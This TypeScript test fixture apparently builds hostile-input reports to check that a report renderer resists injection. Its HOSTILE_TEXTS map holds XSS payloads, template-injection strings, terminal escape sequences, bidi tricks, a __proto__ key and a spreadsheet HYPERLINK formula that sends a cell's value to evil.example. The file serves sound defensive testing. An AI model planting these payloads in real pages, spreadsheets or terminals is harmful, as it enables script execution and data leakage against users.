import type { ClassReport, Report } from "../../src/contract/index.js";
import { classOf, honest, notFrozen, pending } from "./fixtures.js";

/** Fields whose values are words of the contract, not free text. */
const FIXED = new Set(["audience", "state", "part", "outcome", "origin", "proof", "result", "code", "blame"]);

export const HOSTILE_TEXTS: Record<string, string> = {
  script: "</p></style></script><script>alert(1)</script><img src=x onerror=alert(1)>",
  attribute: `" onmouseover="alert(1)" x='`,
  template: "{{constructor.constructor}} {{{this}}} {{> shell}}",
  bidi: "mark\u202e02 fo 02\u2066 zero\u200bwidth",
  terminal: "\u001b[2J\u001b]0;title\u0007\u001bPdcs\u001b\\\u009b31mFAIL\rPASS\b\b\u0000\u007f",
  formula: '=HYPERLINK("http://evil.example/?"&A1)',
  surrogate: "\ud800 broken \udfff",
  marks: `Z${"\u0301".repeat(400)}`,
  prototype: "__proto__",
  lines: "a line\n".repeat(1_000_000),
  oneWord: "x".repeat(3_000_000),
};

/** The report with `text` in every free field. */
function poison<T>(value: T, text: string): T {
  const poisoned = (inner: unknown, key: string): unknown => {
    if (typeof inner === "string") return FIXED.has(key) ? inner : text;
    if (Array.isArray(inner)) return inner.map((item) => poisoned(item, key));
    if (typeof inner !== "object" || inner === null) return inner;
    return Object.fromEntries(Object.entries(inner).map(([name, item]) => [name, poisoned(item, name)]));
  };
  return poisoned(value, "") as T;
}

export const hostileReports = (text: string): Report[] =>
  [honest(), notFrozen(), pending()].map((report) => poison({ ...report, stamp: "SELF-CHECK" }, text));

/** A class of poisoned reports; only the paths of the pages are kept, because the harness makes them. */
export function hostileClass(text: string): ClassReport {
  const honestClass = classOf([honest(), notFrozen(), pending()]);
  const rows = hostileReports(text).map((report, index) => {
    const { staffPage = "", studentPage = "" } = honestClass.rows[index] ?? {};
    return { report, student: { ...report, audience: "student" as const }, staffPage, studentPage };
  });
  return { ...poison(honestClass, text), rows };
}
